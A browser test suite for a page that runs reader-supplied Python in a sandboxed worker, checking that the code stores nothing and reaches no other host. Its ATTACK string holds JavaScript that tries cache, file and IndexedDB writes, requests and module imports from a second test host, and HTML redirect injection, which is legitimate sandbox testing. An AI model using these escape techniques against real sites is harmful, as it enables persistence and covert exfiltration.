"""A reader's code that has every power of its interpreter keeps nothing on the device, and reaches nobody.

It is tried as the end of the Python that the worker runs, with `js` at hand, in the worker of a live page.
"""

from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Error, Page, expect

from downhill.session.fragment import encode
from tests.browser.conftest import Kept, OpenEssay
from tests.support.escapes import PYTHON, TRY, WAYS, program
from tests.support.essay import Essay, at_once, until
from tests.support.faults import FaultyServer, faulty
from tests.support.firefox import Tab, running
from tests.support.firefox import until as until_in_firefox
from tests.support.often import thorough

READY = "() => document.documentElement?.dataset.python === 'ready'"
TRIED = "() => window.tried"
KEPT = """async () => {
    const files = [];
    for await (const name of (await navigator.storage.getDirectory()).keys()) files.push(name);
    return {
        caches: await caches.keys(), files, databases: (await indexedDB.databases()).map(({ name }) => name),
        buckets: await navigator.storageBuckets?.keys() ?? [], cookies: document.cookie, local: Object.keys(localStorage),
        workers: (await navigator.serviceWorker.getRegistrations()).length,
    };
}"""
"""What the device keeps of the site; for a page that does not put its own things in the place of the browser's."""
HARM = """cache/private files/buckets/lock/fetch at home/socket/events/worker/other tabs/module of a blob/getter/by name
navigator/what is reached/its module anew""".replace("\n", "/").split("/")
"""Ways that lead somewhere where there is no wall; the page's policy holds others."""

ATTACK = """import js
def predict(x, m, b):
    return m * x + b
def loss(x, y, m, b):
    return abs(y - predict(x, m, b)).sum()
js.eval('''(async (own, there) => {
    const put = async (name) => (await caches.open(name)).put(own, new Response("evil"));
    self.held = 0;
    for (const way of [() => put("evil"), async () => { for (const name of await caches.keys()) await put(name); },
        () => navigator.storage.getDirectory().then(all => all.getFileHandle("evil", { create: true })),
        () => indexedDB.open("evil"), () => fetch(there), () => new WebSocket(there.replace("http", "ws")), () => new Worker(own),
        () => { const one = new XMLHttpRequest(); one.open("GET", there); one.send(); }, () => import(there + "module.js")])
        try { await way(); } catch { held++; }
    postMessage(["downhill", { broken: `<img src=${there}>` }]);
    postMessage(`<meta http-equiv=refresh content="0;url=${there}">`);
})(OWN, THERE)''')
"""
"""What a stranger's link brings: the line's loss, and nine ways to keep something, or to reach another host."""


@pytest.fixture
def elsewhere(site: Path) -> Iterator[FaultyServer]:
    """Another host, which hears of everything that is asked of it."""
    with faulty(site) as server:
        yield server


@pytest.fixture
def host(site: Path, elsewhere: FaultyServer) -> Iterator[FaultyServer]:
    """The page's own host, whose worker runs the program."""
    with faulty(site) as server:
        (app,) = (folder.relative_to(site).as_posix() for folder in site.glob("app-*"))
        escape = program(server.address, elsewhere.address, f"{server.address}{app}/boot/")
        server.appended = {f"{app}/worker/main.py": escape}
        yield server


def untouched(run: Any, before: dict[str, Any], host: FaultyServer) -> None:
    """Nothing is kept but what the page itself keeps, and the page is what was built."""
    kept = run(KEPT)
    assert "evil" not in str(kept)
    ours = ("caches", "files", "workers")
    assert {**kept, **dict.fromkeys(ours)} == {**before, **dict.fromkeys(ours)}
    fetched = "async address => (await fetch(address, { cache: 'no-store' })).text()"
    assert run(fetched, host.address) == (host.folder / "index.html").read_text(encoding="utf-8")


def tried(essay: Essay) -> dict[str, str]:
    """The outcome of each way."""
    essay.page.evaluate(TRY)
    until(essay.page, lambda: bool(essay.page.evaluate(TRIED)), "all ways are tried")
    outcomes: dict[str, str] = essay.page.evaluate(TRIED)
    return outcomes


@pytest.mark.parametrize("way", ["snapshot", pytest.param("packed", marks=thorough)])
def test_no_way_out_of_the_worker_leads_anywhere(
    open_essay: OpenEssay, host: FaultyServer, elsewhere: FaultyServer, way: str
) -> None:
    essay = open_essay(at=f"{host.address}README.txt", keeps=True, later=True)
    before = essay.page.evaluate(KEPT)
    essay.address = host.address
    essay.open(f"?start={way}").ready()
    title = essay.page.title()
    assert tried(essay) == dict.fromkeys((*WAYS, *PYTHON), "held")
    assert (elsewhere.asked, essay.page.title()) == ([], title)
    assert "evil" not in host.asked
    assert essay.page.url.startswith(host.address)
    essay.lesson("valley").press("step")
    page = essay.page.context.new_page()
    page.goto(f"{host.address}README.txt")
    untouched(page.evaluate, before, host)


@thorough  # it is the test above that is tested here
def test_without_the_wall_the_same_code_keeps_and_reaches_things(
    open_essay: OpenEssay, host: FaultyServer, site: Path
) -> None:
    (wall,) = site.glob("app-*/boot/worker/wall.js")
    host.appended[wall.relative_to(site).as_posix()] = "\nraise = () => {};"
    essay = open_essay("?start=packed", at=host.address, keeps=True, later=True).ready()
    outcomes = tried(essay)
    assert [way for way in HARM if outcomes[way] != "done"] == []
    page = essay.page.context.new_page()
    page.goto(f"{host.address}README.txt")
    kept = page.evaluate(KEPT)
    assert {place for place in kept if "evil" in str(kept[place])} == {"buckets", "caches", "files"}


def test_nor_does_any_in_firefox(firefox_path: Path, host: FaultyServer, elsewhere: FaultyServer) -> None:
    with running(firefox_path) as fox:
        other = Tab(fox, f"{host.address}README.txt")
        before = other.run(KEPT)
        tab = Tab(fox, at_once(f"{host.address}?start=packed"))
        until_in_firefox(lambda: tab.run(READY), "Python is up")
        tab.run(TRY)
        until_in_firefox(lambda: bool(tab.run(TRIED)), "all ways are tried")
        assert tab.run(TRIED) == dict.fromkeys((*WAYS, *PYTHON), "held")
        assert elsewhere.asked == []
        assert tab.run("() => document.title") != "evil"
        untouched(other.run, before, host)


def has_tried(page: Page) -> bool:
    """Whether a worker says that all was tried; one that ends while it is asked says nothing."""
    for worker in page.workers:
        with suppress(Error):
            if worker.evaluate("self.held") == 9:
                return True
    return False


def test_a_strangers_link_that_was_run_leaves_the_next_visit_what_it_was(
    kept: Kept, elsewhere: FaultyServer
) -> None:
    essay, host = kept
    essay.page.goto(f"{host.address}README.txt")
    before = essay.page.evaluate(KEPT)
    code = ATTACK.replace("OWN", repr(host.address)).replace("THERE", repr(elsewhere.address))
    lesson = essay.open("#" + encode("line", {"line.code": code})).ready().lesson("line")
    lesson.section.locator("[data-code-do=run]").click()
    expect(lesson.section.locator("[data-code]")).to_have_attribute("data-code-state", "changed")
    until(essay.page, lambda: has_tried(essay.page), "all is tried")
    assert essay.page.url.startswith(host.address)
    essay.page.goto(f"{host.address}README.txt")
    untouched(essay.page.evaluate, before, host)
    essay.open("").ready().lesson("valley").press("step")
    assert elsewhere.asked == []
